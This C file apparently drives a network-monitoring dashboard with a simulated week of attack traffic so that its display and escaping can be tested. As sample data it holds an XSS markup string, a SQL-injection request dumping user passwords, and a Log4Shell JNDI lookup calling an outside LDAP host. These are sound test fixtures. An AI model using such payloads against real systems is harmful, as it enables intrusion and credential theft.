/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * stage STATE PORT [SECONDS] [LANG] [HOURS-A-SECOND] - the dashboard on a made-up week, to be looked at and tested.
 *
 * The past eight days are told to it period by period, then the running one each second; STATE is what the last
 * minutes are like: quiet, busy, attack, degraded, hostile (each name that an attacker can set is markup) or waiting.
 * HOURS-A-SECOND lets time fly, for a page that is open all day.
 */
#include "http/http.h"

#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

#define PERIOD_NS (300 * STAMP_SECOND_NS)
#define HOUR_NS (3600 * STAMP_SECOND_NS)
#define DAY_NS (24 * HOUR_NS)

static const char *state;
static uint32_t dice = 12345;

static unsigned roll(unsigned sides)
{
	dice = dice * 1664525 + 1013904223;
	return (dice >> 8) % sides;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_REALTIME, &now);
	return (uint64_t)now.tv_sec * STAMP_SECOND_NS + (uint64_t)now.tv_nsec;
}

static bool is(const char *name)
{
	return strcmp(state, name) == 0;
}

static const struct {
	const char *addr, *country;
	enum ronda_class class;
	unsigned weight;
	bool verified;
} cast[] = {
	{ "203.0.113.77", "CN", RONDA_CLASS_PROBE, 230, false }, { "198.51.100.23", "NL", RONDA_CLASS_PROBE, 190, false },
	{ "192.0.2.144", "US", RONDA_CLASS_PROBE, 150, false }, { "203.0.113.9", "RU", RONDA_CLASS_LOGIN, 120, true },
	{ "198.51.100.201", "BG", RONDA_CLASS_PROBE, 88, false }, { "2001:db8:51:7::", "SG", RONDA_CLASS_TLS, 61, true },
	{ "192.0.2.31", "ID", RONDA_CLASS_WEB, 54, true }, { "203.0.113.130", "VN", RONDA_CLASS_LOGIN, 40, true },
	{ "198.51.100.77", "DE", RONDA_CLASS_STEALTH, 31, false }, { "192.0.2.200", "ID", RONDA_CLASS_LOGIN, 25, true },
	{ "203.0.113.201", "IN", RONDA_CLASS_WEB, 17, true }, { "198.51.100.140", "GB", RONDA_CLASS_PROBE, 14, false },
	{ "192.0.2.88", "BR", RONDA_CLASS_PROBE, 11, false }, { "203.0.113.55", "HK", RONDA_CLASS_PROBE, 9, false },
	{ "198.51.100.9", "KR", RONDA_CLASS_PROBE, 7, false }, { "192.0.2.5", "FR", RONDA_CLASS_EXPLOIT, 3, true },
	{ "203.0.113.18", "TR", RONDA_CLASS_PROBE, 3, false }, { "198.51.100.250", "UA", RONDA_CLASS_PROBE, 2, false },
	{ "192.0.2.61", "ID", RONDA_CLASS_WEB, 2, true },
};

static const char *const names[] = { "www.kota.example.go.id", "layanan.kota.example.go.id", "ppid.kota.example.go.id",
	"disdukcapil.kota.example.go.id", "103.94.188.50", "jdih.kota.example.go.id" };

enum { CAST = sizeof cast / sizeof *cast, NAMES = sizeof names / sizeof *names };

#define MARKUP "<img src=x onerror=alert(1)>\"'&lt;\xe2\x80\xae"

/* Attempts of a period: more by day, less on Sunday, and what the state asks of the last minutes. */
static unsigned pace(uint64_t at_ns, uint64_t end_ns)
{
	unsigned hour = (unsigned)(at_ns / HOUR_NS + 7) % 24, weekday = (unsigned)(at_ns / DAY_NS) % 7;
	unsigned base = 260 + (hour > 7 && hour < 18 ? 180 : 0) + (weekday == 3 ? 0 : 60) + roll(160);
	bool lately = end_ns - at_ns < 1000 * STAMP_SECOND_NS;

	if (roll(60) == 0)
		base *= 3;
	if (is("quiet") && lately)
		base /= 4;
	return lately && (is("busy") || is("attack") || is("hostile")) ? base * 6 : base;
}

static char *copy(const char *text)
{
	return strdup(text);
}

static void add_source(struct ronda_summary *s, unsigned i, uint64_t attempts)
{
	struct ronda_source *source = &s->sources.top[s->sources.top_count++];
	bool home = strcmp(cast[i].country, "ID") == 0;

	*source = (struct ronda_source){ .origin = home ? RONDA_ORIGIN_DOMESTIC : RONDA_ORIGIN_FOREIGN, .prefix_bits = 128,
		.country = ronda_country_parse(cast[i].country), .verified = cast[i].verified, .attempts = attempts,
		.packets = attempts * 2, .bytes = attempts * 120, .targets = 1 + roll(30), .ports = 1 + roll(9),
		.first_seen_ns = s->start_ns, .last_seen_ns = s->end_ns - roll(200) * STAMP_SECOND_NS / 4 };
	ronda_addr_parse(&source->addr, cast[i].addr, NULL);
	if (strchr(cast[i].addr, ':'))
		source->prefix_bits = 64;
	source->by_class[cast[i].class] = attempts;
	s->attempts.total += attempts;
	s->attempts.by_class[cast[i].class] += attempts;
	s->attempts.by_origin[source->origin] += attempts;
	*(cast[i].verified ? &s->attempts.verified : &s->attempts.unverified) += attempts;
	ronda_sketch_add(&s->sources.attacking, &source->addr);
}

static int by_name(const void *a, const void *b)
{
	return strcmp(((const struct ronda_row *)a)->name, ((const struct ronda_row *)b)->name);
}

static void add_row(struct ronda_rows *rows, const char *name, uint64_t count)
{
	rows->row = realloc(rows->row, (rows->count + 1) * sizeof *rows->row);
	rows->row[rows->count++] = (struct ronda_row){ copy(name), count };
}

static void divide(struct ronda_summary *s)
{
	uint64_t left = s->attempts.total, part;
	static const unsigned percent[RONDA_OUTCOME_COUNT] = { 71, 18, 3, 2, 4, 1, 0 };

	for (unsigned i = 0; i + 1 < NAMES; i++, left -= part) {
		part = left * (40 - 5 * i) / 100;
		add_row(&s->attempts.by_site, is("hostile") && i == 1 ? MARKUP : names[i], part);
	}
	add_row(&s->attempts.by_site, "other", left);
	qsort(s->attempts.by_site.row, s->attempts.by_site.count, sizeof *s->attempts.by_site.row, by_name);
	s->attempts.by_site_class.row = calloc(s->attempts.by_site.count, sizeof *s->attempts.by_site_class.row);
	s->attempts.by_site_class.count = s->attempts.by_site.count;
	for (size_t i = 0; i < s->attempts.by_site.count; i++)
		s->attempts.by_site_class.row[i] = (struct ronda_class_row){ copy(s->attempts.by_site.row[i].name),
			{ s->attempts.by_site.row[i].count } };
	for (unsigned i = 0; i < s->sources.top_count; i++) {
		char country[8];

		add_row(&s->attempts.by_country, ronda_country_format(s->sources.top[i].country, country),
			s->sources.top[i].attempts);
	}
	left = s->attempts.total;
	for (unsigned i = 1; i < RONDA_OUTCOME_COUNT; i++) {
		s->attempts.by_outcome[i] = s->attempts.total * percent[i] / 100;
		left -= s->attempts.by_outcome[i];
	}
	s->attempts.by_outcome[0] = left;
}

static void add_flood(struct ronda_summary *s, bool ongoing, uint64_t start_ns, uint64_t end_ns)
{
	s->floods = realloc(s->floods, (s->floods_count + 1) * sizeof *s->floods);
	struct ronda_flood *flood = &s->floods[s->floods_count++];

	*flood = (struct ronda_flood){ .sensor = copy(s->sensor), .kind = RONDA_FLOOD_SYN, .port = 443, .start_ns = start_ns,
		.end_ns = end_ns, .ongoing = ongoing, .packets = 412000, .bytes = 24720000, .peak_packets_per_second = 18420,
		.peak_bits_per_second = 8841600, .sources = 40327, .spoofed = true };
	if (!ongoing)
		flood->kind = RONDA_FLOOD_SLOW, flood->port = 80, flood->peak_packets_per_second = 340, flood->sources = 3,
			flood->spoofed = false;
	ronda_addr_parse(&flood->target, "103.94.188.18", NULL);
}

static void add_review(struct ronda_summary *s, uint64_t time_ns, const char *rule, const char *line, unsigned who)
{
	s->review = realloc(s->review, (s->review_count + 1) * sizeof *s->review);
	struct ronda_review *row = &s->review[s->review_count++];

	*row = (struct ronda_review){ .time_ns = time_ns, .country = ronda_country_parse(cast[who].country),
		.class = RONDA_CLASS_WEB, .rule = copy(rule), .kind = copy("web"), .port = 80, .status = 200,
		.site = copy(is("hostile") ? MARKUP : "www.kota.example.go.id"), .line = copy(is("hostile") ? "GET /" MARKUP : line),
		.response_bytes = 5120, .outcome = RONDA_OUTCOME_SERVED };
	ronda_addr_parse(&row->source, cast[who].addr, NULL);
	ronda_addr_parse(&row->addr, "103.94.188.50", NULL);
}

static struct ronda_summary *period(uint64_t start_ns, uint64_t end_ns, unsigned attempts, uint64_t today_end_ns)
{
	struct ronda_summary *s = calloc(1, sizeof *s);
	unsigned weights = 0;

	s->sensor = copy("kota-tap");
	s->scope = calloc(1, sizeof *s->scope);
	s->scope[s->scope_count++] = copy("103.94.188.0/22");
	s->home = RONDA_COUNTRY('I', 'D');
	s->start_ns = start_ns;
	s->end_ns = end_ns;
	s->up_seconds = (end_ns - start_ns) / STAMP_SECOND_NS;
	s->parts = calloc(1, sizeof *s->parts);
	s->parts[s->parts_count++] = (struct ronda_part){ copy(s->sensor), start_ns, end_ns, s->up_seconds };
	s->geoip.file = copy("/usr/share/ronda/country.mmdb");
	s->geoip.type = copy("ronda-Country");
	s->geoip.built_seconds = today_end_ns / STAMP_SECOND_NS - 40 * 86400;
	s->capture.complete = true;
	s->sources.top = calloc(CAST, sizeof *s->sources.top);
	for (unsigned i = 0; i < CAST; i++)
		weights += cast[i].weight;
	for (unsigned i = 0; i < CAST; i++)
		if (attempts * cast[i].weight / weights)
			add_source(s, i, attempts * cast[i].weight / weights);
	divide(s);
	s->traffic.packets = s->frames.delivered = s->frames.by_fate[0] = 310000 + roll(50000);
	s->traffic.wire_bytes = s->traffic.packets * 640;
	s->incidents.total = 5;
	return s;
}

/* In an attack attempts have been high for an hour and more. */
static void fill_vitals(void *context, struct vitals *vitals)
{
	const uint64_t *begun_ns = context;

	vitals->started_ns = *begun_ns;
	if (is("attack"))
		vitals->surge = (struct vitals_surge){ *begun_ns / HOUR_NS * HOUR_NS - HOUR_NS, 41250, 5600 };
}

static void tell(struct http *http, struct ronda_summary *s, bool whole)
{
	http_take(http, s, whole);
	ronda_summary_destroy(s);
}

/* But for two hours of last night, when the sensor was off. */
static void tell_past(struct http *http, uint64_t end_ns)
{
	uint64_t off_ns = end_ns - 14 * HOUR_NS;

	for (uint64_t at_ns = end_ns - 8 * DAY_NS; at_ns < end_ns; at_ns += PERIOD_NS) {
		struct ronda_summary *s;

		if (at_ns >= off_ns && at_ns < off_ns + 2 * HOUR_NS)
			continue;
		s = period(at_ns, at_ns + PERIOD_NS, pace(at_ns, end_ns), end_ns);
		if (!is("quiet") && at_ns == end_ns - 10 * PERIOD_NS)
			add_flood(s, false, at_ns, at_ns + 95 * STAMP_SECOND_NS);
		if (!is("quiet") && at_ns >= end_ns - 5 * PERIOD_NS && at_ns < end_ns - 2 * PERIOD_NS) {
			add_review(s, at_ns, "sql-union-select", "GET /berita.php?id=1%27%20union%20select%201,2,concat(user,0x3a,"
				"password),4,5,6%20from%20users--%20- HTTP/1.1", 6);
			add_review(s, at_ns + 7 * STAMP_SECOND_NS, "log4shell", "GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1", 3);
		}
		tell(http, s, true);
	}
}

static void tell_running(struct http *http, uint64_t start_ns, uint64_t end_ns)
{
	uint64_t seconds = (end_ns - start_ns) / STAMP_SECOND_NS;
	struct ronda_summary *s = period(start_ns, end_ns, (unsigned)(seconds * (is("quiet") ? 1 : 9)), end_ns);

	if (is("attack") || is("hostile"))
		add_flood(s, true, start_ns - 80 * STAMP_SECOND_NS, end_ns - STAMP_SECOND_NS);
	if (is("degraded")) {
		s->capture.kernel_drop_packets = 1200 * seconds;
		s->capture.one_way = true;
		s->up_seconds = s->parts[0].up_seconds = 0;
	}
	s->traffic.packets = s->frames.delivered = s->frames.by_fate[0] = seconds * (is("attack") ? 21430 : 1090);
	s->traffic.wire_bytes = s->traffic.packets * 640;
	tell(http, s, false);
}

static void fly(struct http *http, uint64_t *clock_ns, unsigned hours)
{
	for (unsigned i = 0; i < hours * 12; i++, *clock_ns += PERIOD_NS)
		tell(http, period(*clock_ns, *clock_ns + PERIOD_NS, pace(*clock_ns, *clock_ns), *clock_ns), true);
}

int main(int argc, char **argv)
{
	struct ronda_error error;
	struct http_settings settings = { .zone = stamp_zone_create("WIB", &error) };
	unsigned seconds = argc > 3 ? (unsigned)atoi(argv[3]) : 3600, hours = argc > 5 ? (unsigned)atoi(argv[5]) : 0;
	char place[32];

	if (argc < 3) {
		fprintf(stderr, "stage STATE PORT [SECONDS] [LANG] [HOURS-A-SECOND]\n");
		return 2;
	}
	state = argv[1];
	signal(SIGPIPE, SIG_IGN);
	snprintf(place, sizeof place, "127.0.0.1:%s", argv[2]);
	gate_place_parse(&settings.place, place, &error);
	words_lang_parse(&settings.lang, argc > 4 ? argv[4] : "en");

	uint64_t begun_ns = now_ns(), clock_ns = begun_ns + DAY_NS;

	settings.vitals = fill_vitals;
	settings.vitals_context = &begun_ns;

	struct http *http = http_start(&settings, &error);

	if (!http) {
		fprintf(stderr, "stage: %s\n", error.text);
		return 1;
	}
	if (!is("waiting"))
		tell_past(http, begun_ns);
	printf("%u\n", http_port(http));
	fflush(stdout);
	for (unsigned i = 0; i < seconds; i++) {
		if (hours)
			fly(http, &clock_ns, hours);
		else if (!is("waiting"))
			tell_running(http, begun_ns, now_ns() + STAMP_SECOND_NS);
		sleep(1);
	}
	http_stop(http);
	stamp_zone_destroy((struct stamp_zone *)settings.zone);
	return 0;
}
